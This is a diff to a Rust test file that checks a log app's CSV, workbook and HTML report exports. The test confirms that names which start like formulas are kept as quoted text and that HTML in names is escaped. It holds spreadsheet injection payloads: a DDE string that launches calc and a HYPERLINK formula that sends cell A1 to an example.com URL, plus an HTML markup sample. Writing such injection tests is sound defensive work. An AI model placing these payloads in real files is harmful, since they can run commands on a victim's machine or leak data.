@@ -48,7 +48,7 @@ fn csv_column(path: &Path, col: &str) -> Vec<String> {
 const NAME_EQ: &str = "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")";
 const NAME_AT: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
 const GEAR_PLUS: &str = "+Pegasus 40";
-const GEAR_MINUS: &str = "-2+3 trainers";
+const GEAR_MINUS: &str = "-2+3 <i>trainers</i> & \"co\"";
 const GEAR_LOG: &str = "=1+1 Kinvara";
 const LOCATION: &str = "=cmd|' /C calc'!A0";
 /// File names given as relative paths: the ledger's `source` starts with them.
@@ -191,6 +191,20 @@ fn user_text_that_starts_like_a_formula_is_a_quoted_string_cell_and_verbatim_in_
             }
         }
     }
+    // The page shows the names as text: escaped, never markup.
+    let html = std::fs::read_to_string(out.join("report.html")).unwrap();
+    let opts = roxmltree::ParsingOptions {
+        allow_dtd: true,
+        ..roxmltree::ParsingOptions::default()
+    };
+    let doc = roxmltree::Document::parse_with_options(&html, opts).expect("well-formed");
+    assert!(
+        doc.descendants()
+            .any(|n| n.is_text() && n.text().is_some_and(|t| t.contains(GEAR_MINUS))),
+        "{GEAR_MINUS} as text on the page"
+    );
+    assert!(!doc.descendants().any(|n| n.tag_name().name() == "i"));
+
     // The long name, cut to fit, in activities and gear (the workbook was written at all).
     assert_eq!(planted.get("long"), Some(&2), "{:?}", planted.keys());
     for want in [NAME_EQ, NAME_AT, GEAR_PLUS, GEAR_MINUS, GEAR_LOG]
